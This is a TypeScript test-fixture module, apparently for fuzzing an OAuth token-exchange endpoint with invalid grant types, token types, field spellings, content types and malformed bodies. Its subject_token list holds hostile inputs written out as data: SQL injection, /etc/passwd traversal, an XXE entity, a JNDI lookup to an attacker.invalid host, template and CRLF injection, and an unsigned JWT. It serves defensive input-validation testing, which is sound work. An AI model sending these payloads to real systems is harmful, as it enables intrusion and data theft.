import type { Pairs } from "./world.ts";

const GRANT = "urn:ietf:params:oauth:grant-type:token-exchange";
const TYPE = "urn:ietf:params:oauth:token-type:";
const HUGE = "x".repeat(100_000);

export const formOf = (subjectToken: string): Pairs => [
  ["grant_type", GRANT],
  ["subject_token", subjectToken],
  ["subject_token_type", `${TYPE}access_token`],
];

export const encodeForm = (pairs: Pairs) => new URLSearchParams(pairs).toString();

/** Values that the field must not have. */
export const WRONG: Record<string, string[]> = {
  grant_type: [
    "password",
    "client_credentials",
    "authorization_code",
    "refresh_token",
    "implicit",
    "token-exchange",
    "urn:ietf:params:oauth:grant-type:jwt-bearer",
    "urn:ietf:params:oauth:grant-type:saml2-bearer",
    "urn:ietf:params:oauth:grant-type:device_code",
    "urn:ietf:params:oauth:grant-type:uma-ticket",
    GRANT.toUpperCase(),
    `${GRANT} `,
    `${GRANT}\0`,
    `${GRANT}s`,
    `["${GRANT}"]`,
  ],
  subject_token_type: [
    `${TYPE}refresh_token`,
    `${TYPE}saml1`,
    `${TYPE}saml2`,
    `${TYPE}ACCESS_TOKEN`,
    `${TYPE}access_token `,
    `${TYPE}access_token\0`,
    `${TYPE}`,
    "urn:x",
    "access_token",
    "Bearer",
    "__proto__",
    "constructor",
  ],
  requested_token_type: [`${TYPE}refresh_token`, `${TYPE}saml1`, `${TYPE}saml2`, "urn:x", "jwt"],
  actor_token: ["eyJhbGciOiJub25lIn0.e30.", "x"],
  scope: ["admin", "*", "openid offline_access"],
  audience: ["https://attacker.invalid", "*"],
  resource: ["https://attacker.invalid/", "/relative", "https://attacker.invalid/#part"],
  subject_token: [
    ".",
    "..",
    "...",
    "a.b.c",
    "null",
    "undefined",
    "true",
    "0",
    "{}",
    "[]",
    "' OR '1'='1",
    "'; DROP TABLE threads; --",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    `\${jndi:ldap://attacker.invalid/a}`,
    "{{7*7}}",
    "%00",
    "\0",
    "\r\nset-cookie: a=b",
    "\u202e\ufeff\u{1f600}",
    ".".repeat(50_000),
    HUGE,
  ],
};
export const REQUIRED = ["grant_type", "subject_token", "subject_token_type"];
/** What a required field can be written as instead. */
export const SPELLINGS: [string, (name: string) => string][] = [
  ["in capitals", (name) => name.toUpperCase()],
  ["as a list", (name) => `${name}[]`],
  ["as an index", (name) => `${name}[0]`],
  ["with a space", (name) => `${name} `],
  ["with a NUL", (name) => `${name}\0`],
  ["with a dot", (name) => name.replace("_", ".")],
  ["below __proto__", (name) => `__proto__[${name}]`],
];
export const TYPES: [string, (form: Pairs) => string][] = [
  ["application/json", (form) => JSON.stringify(Object.fromEntries(form))],
  ["application/json", encodeForm],
  ["text/plain", encodeForm],
  ["application/xml", (form) => `<form>${JSON.stringify(form)}</form>`],
  ["application/x-www-form-urlencoded-x", encodeForm],
  ["multipart/form-data", encodeForm],
  ["multipart/form-data; boundary=", encodeForm],
  ["x", encodeForm],
];
export const BODIES: [string, string][] = [
  ["nothing", ""],
  ["null", "null"],
  ["a list", "[]"],
  ["a percent sign", "%"],
  ["broken percent signs", "grant_type=%zz&subject_token=%&subject_token_type=%e"],
  [
    "bytes that are no UTF-8",
    "grant_type=%ff%fe&subject_token=%c0%ae&subject_token_type=%ed%a0%80",
  ],
  ["5,000 fields", Array.from({ length: 5_000 }, (_, at) => `f${at}=1`).join("&")],
  ["ampersands", "&".repeat(100_000)],
  ["one huge name", HUGE],
];
